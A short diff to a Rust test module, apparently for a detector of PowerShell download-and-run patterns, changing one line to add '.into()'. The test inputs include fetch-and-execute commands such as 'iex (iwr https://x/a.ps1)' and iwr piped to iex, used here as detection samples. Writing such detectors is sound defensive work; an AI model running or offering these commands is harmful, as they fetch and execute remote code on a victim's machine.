@@ -616,7 +616,7 @@ mod tests {
         assert!(iex_of_download(&c("powershell,iex (iwr https://x/a.ps1)")));
         assert!(!iex_of_download(&c("powershell,iex $cmd")));
         let mut iex = c("iex");
-        iex.upstream = vec![c("iwr,https://x")];
+        iex.upstream = vec![c("iwr,https://x").into()];
         assert!(iwr_piped_to_iex(&iex));
     }
 
